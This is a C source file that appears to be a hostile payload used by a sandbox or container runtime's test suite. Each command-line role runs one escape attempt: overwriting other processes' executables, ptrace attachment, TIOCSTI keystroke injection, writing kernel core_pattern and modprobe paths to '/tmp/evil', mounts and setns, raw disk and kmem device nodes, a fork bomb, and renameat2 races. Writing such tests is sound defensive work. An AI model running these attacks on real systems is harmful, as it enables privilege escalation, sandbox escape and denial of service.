// What a hostile tree runs: each role is one attack from inside an entry. Built static by the tests.
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <termios.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE 2
#endif

static void say(const char *what, long result) {
  printf("%s: %s\n", what, result < 0 ? strerror(errno) : "done");
}

static int write_to(const char *path, const char *text) {
  int fd = open(path, O_WRONLY | O_NONBLOCK);
  if (fd < 0) return -1;
  int result = write(fd, text, strlen(text)) < 0 ? -1 : 0;
  close(fd);
  return result;
}

// Row 5: writes into the program of every process that can be seen.
static int overwrite_programs(void) {
  DIR *processes = opendir("/proc");
  if (processes == NULL) return puts("no proc"), 0;
  for (struct dirent *entry = readdir(processes); entry != NULL; entry = readdir(processes)) {
    char path[300], target[300] = "";
    if (atoi(entry->d_name) <= 0 || atoi(entry->d_name) == getpid()) continue;
    snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
    int fd = open(path, O_WRONLY | O_TRUNC);
    if (fd < 0) {
      chmod(path, 0777);
      fd = open(path, O_RDWR);
    }
    if (fd >= 0 && write(fd, "#!/bin/sh\n", 10) > 0 && readlink(path, target, sizeof target - 1) >= 0)
      printf("overwrote %s\n", target);
  }
  return puts("tried"), 0;
}

// Rows 6 and 18: descriptors, working directory, roots and memory of what can be seen.
static int look_around(void) {
  char text[4096];
  for (int fd = 0; fd < 1024; fd++) {
    snprintf(text, sizeof text, "/proc/self/fd/%d", fd);
    if (fd > 2 && fcntl(fd, F_GETFD) >= 0) printf("descriptor %d is open\n", fd);
    struct stat status;
    if (fd <= 2 && fstat(fd, &status) == 0 && S_ISDIR(status.st_mode)) printf("descriptor %d is a directory\n", fd);
  }
  printf("cwd %s\n", getcwd(text, sizeof text) == NULL ? "?" : text);
  for (int pid = 1; pid < 4096; pid++) {
    struct stat own, theirs;
    snprintf(text, sizeof text, "/proc/%d/root/", pid);
    if (stat("/", &own) == 0 && stat(text, &theirs) == 0 && (own.st_ino != theirs.st_ino || own.st_dev != theirs.st_dev))
      printf("root of %d is another\n", pid);
    snprintf(text, sizeof text, "/proc/%d/fd", pid);
    char link[600], target[64];
    snprintf(link, sizeof link, "%.512s/3", text);
    if (pid != getpid() && readlink(link, target, sizeof target) > 0) printf("descriptors of %d\n", pid);
    if (pid != getpid() && pid != getppid() && ptrace(PTRACE_ATTACH, pid, 0, 0) == 0) printf("traced %d\n", pid);
  }
  if (ptrace(PTRACE_ATTACH, getppid(), 0, 0) == 0) printf("traced the keeper\n");
  return puts("looked"), 0;
}

// Row 12: pushes keys into whatever terminal it can reach.
static int push_keys(void) {
  for (int fd = 0; fd < 3; fd++) {
    char paste[] = {3, 0};
    ioctl(fd, TIOCSTI, "#");
    for (const char *key = "touch /tmp/injected\n"; *key != '\0'; key++) ioctl(fd, TIOCSTI, key);
    ioctl(fd, TIOCLINUX, paste);
    printf("%d %s\n", fd, isatty(fd) ? "terminal" : "no terminal");
  }
  int tty = open("/dev/tty", O_RDWR | O_NOCTTY);
  printf("tty %s\n", tty < 0 ? "none" : "own");
  return 0;
}

// Rows 16 and 17: the kernel's settings, and mounts.
static int reach_kernel(void) {
  say("core_pattern", write_to("/proc/sys/kernel/core_pattern", "|/tmp/evil"));
  say("modprobe", write_to("/proc/sys/kernel/modprobe", "/tmp/evil"));
  say("sysrq", write_to("/proc/sysrq-trigger", "h"));
  say("uevent_helper", write_to("/sys/kernel/uevent_helper", "/tmp/evil"));
  mkdir("/m", 0700);
  say("mount tmpfs", mount("x", "/m", "tmpfs", 0, NULL));
  say("mount cgroup", mount("x", "/m", "cgroup", 0, "memory"));
  say("mount proc", mount("x", "/m", "proc", 0, NULL));
  say("remount", mount(NULL, "/proc/sys", NULL, MS_REMOUNT | MS_BIND, NULL));
  say("umount", umount2("/proc/sys", MNT_DETACH));
  say("setns", syscall(SYS_setns, open("/proc/1/ns/mnt", O_RDONLY), 0));
  mknod("/disk", S_IFBLK | 0600, makedev(254, 0));
  mknod("/kmem", S_IFCHR | 0600, makedev(1, 1));
  say("disk", open("/disk", O_RDONLY | O_NONBLOCK));
  say("mem", open("/kmem", O_RDONLY | O_NONBLOCK));
  unlink("/disk");
  unlink("/kmem");
  return 0;
}

// Row 15: after the drop, by a setuid copy of this program.
static int regain(void) {
  execl("/bin/setuid", "setuid", "ids", (char *)NULL);
  return puts("no program"), 0;
}

static int print_ids(void) {
  int result = setresuid(0, 0, 0);
  printf("%u %u %s\n", getuid(), geteuid(), result == 0 ? "root" : "no root");
  return 0;
}

static void ignore_all(void) {
  for (int number = 1; number < 32; number++) signal(number, SIG_IGN);
  signal(SIGCHLD, SIG_DFL);
}

// Row 23: as a package manager in the middle of its work: nobody here listens to signals, some have left the session.
_Noreturn static void be_stubborn(void) {
  ignore_all();
  for (int child = 0; child < 3; child++) {
    if (fork() == 0) {
      if (child > 0) setsid();
      if (fork() == 0 && child == 2) setsid();
      for (;;) sleep(100);
    }
  }
  puts("up");
  fflush(stdout);
  for (;;) sleep(100);
}

// Row 23: forks as long as it may, up to a number that a test machine bears; all of them leave the session.
_Noreturn static void bomb(long most) {
  long count = 0;
  ignore_all();
  for (; count < most; count++) {
    pid_t child = fork();
    if (child < 0) break;
    if (child == 0) {
      setsid();
      for (;;) sleep(100);
    }
  }
  printf("up %ld\n", count);
  fflush(stdout);
  for (;;) sleep(100);
}

// Row 22: speaks into whatever it can, as if it were the helper.
static int speak_protocol(void) {
  static const char greeting[] = "\0CRUN\x01\r\n\xff\xff\xff\x7f\x87\x01\0\0\0";
  for (int fd = 0; fd < 64; fd++) {
    ssize_t ignored = write(fd, greeting, sizeof greeting - 1);
    (void)ignored;
  }
  return 0;
}

// Row 2: exchanges two names until it is killed.
_Noreturn static void exchange(const char *left, const char *right) {
  puts("up");
  fflush(stdout);
  for (;;) syscall(SYS_renameat2, AT_FDCWD, left, AT_FDCWD, right, RENAME_EXCHANGE);
}

int main(int count, char **arguments) {
  const char *role = count > 1 ? arguments[1] : "";
  setvbuf(stdout, NULL, _IOLBF, 0);
  if (strcmp(role, "exe") == 0) return overwrite_programs();
  if (strcmp(role, "look") == 0) return look_around();
  if (strcmp(role, "keys") == 0) return push_keys();
  if (strcmp(role, "kernel") == 0) return reach_kernel();
  if (strcmp(role, "regain") == 0) return regain();
  if (strcmp(role, "ids") == 0) return print_ids();
  if (strcmp(role, "stubborn") == 0) be_stubborn();
  if (strcmp(role, "bomb") == 0 && count > 2) bomb(atol(arguments[2]));
  if (strcmp(role, "speak") == 0) return speak_protocol();
  if (strcmp(role, "exchange") == 0 && count > 3) exchange(arguments[2], arguments[3]);
  fprintf(stderr, "payload: no such role\n");
  return 2;
}
